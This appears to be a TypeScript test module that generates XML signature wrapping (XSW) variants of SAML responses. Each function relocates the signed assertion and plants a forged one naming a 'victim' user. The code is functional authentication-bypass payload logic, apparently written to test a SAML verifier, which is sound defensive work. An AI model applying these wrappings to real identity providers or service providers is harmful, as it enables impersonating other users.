// XML signature wrapping (XSW). The numbers are those of SAML Raider's published list; the code is our own.
// Each function moves or copies the signed element and puts a forged one where a careless reader looks.
import type { Document, Element } from '@xmldom/xmldom'
import { find, parseXml, removeElement, serializeXml, victim } from './documents.suite.ts'

const dsig = 'http://www.w3.org/2000/09/xmldsig#'

function forge(element: Element): void {
  for (const localName of ['NameID', 'AttributeValue'])
    for (const node of element.getElementsByTagNameNS('*', localName)) node.textContent = victim
}

/** Parses, changes the tree, serializes. */
const rewrite =
  (change: (document: Document, response: Element) => void) =>
  (xml: string): string => {
    const document = parseXml(xml)
    change(document, find(document, 'Response'))
    return serializeXml(document)
  }

const copyOf = (element: Element): Element => element.cloneNode(true) as Element

function forgedResponse(response: Element): Element {
  const original = unsignedCopy(response)
  forge(response)
  response.setAttribute('ID', '_evil_response_ID')
  return original
}

function forgedCopy(assertion: Element): Element {
  const copy = unsignedCopy(assertion)
  forge(copy)
  return copy
}

function unsignedCopy(element: Element): Element {
  const copy = copyOf(element)
  removeElement(find(copy, 'Signature'))
  return copy
}

export const wrappings = {
  XSW1: rewrite((_, response) => {
    const original = forgedResponse(response)
    find(response, 'Signature').appendChild(original)
  }),
  XSW2: rewrite((_, response) => {
    const original = forgedResponse(response)
    const signature = find(response, 'Signature')
    signature.parentNode?.insertBefore(original, signature)
  }),
  XSW3: rewrite((document, response) => {
    const assertion = find(document, 'Assertion')
    const forged = forgedCopy(assertion)
    forged.setAttribute('ID', '_evil_assertion_ID')
    response.insertBefore(forged, assertion)
  }),
  XSW4: rewrite((document, response) => {
    const assertion = find(document, 'Assertion')
    const forged = forgedCopy(assertion)
    forged.setAttribute('ID', '_evil_assertion_ID')
    response.appendChild(forged)
    forged.appendChild(assertion)
  }),
  XSW5: rewrite((document, response) => {
    const assertion = find(document, 'Assertion')
    const original = unsignedCopy(assertion)
    forge(assertion)
    response.appendChild(original)
    assertion.setAttribute('ID', '_evil_assertion_ID')
  }),
  XSW6: rewrite((document) => {
    const assertion = find(document, 'Assertion')
    const signature = find(assertion, 'Signature')
    const original = unsignedCopy(assertion)
    forge(assertion)
    signature.appendChild(original)
    assertion.setAttribute('ID', '_evil_assertion_ID')
  }),
  XSW7: rewrite((document, response) => {
    const assertion = find(document, 'Assertion')
    const extensions = document.createElement('Extensions')
    response.insertBefore(extensions, assertion)
    extensions.appendChild(forgedCopy(assertion))
  }),
  XSW8: rewrite((document) => {
    const assertion = find(document, 'Assertion')
    const original = unsignedCopy(assertion)
    forge(assertion)
    const object = document.createElement('Object')
    find(assertion, 'Signature').appendChild(object)
    object.appendChild(original)
  }),
  XSW10: rewrite((document, response) => {
    const assertion = find(document, 'Assertion')
    const signature = find(assertion, 'Signature')
    const movedSignature = copyOf(signature)
    const original = copyOf(assertion)
    const issuer = find(response, 'Issuer')
    response.insertBefore(movedSignature, issuer.nextSibling)
    const object = document.createElementNS(dsig, 'Object')
    movedSignature.appendChild(object)
    object.appendChild(original)
    assertion.setAttribute('ID', `${assertion.getAttribute('ID')}ffff`)
    removeElement(signature)
    forge(assertion)
  }),
}
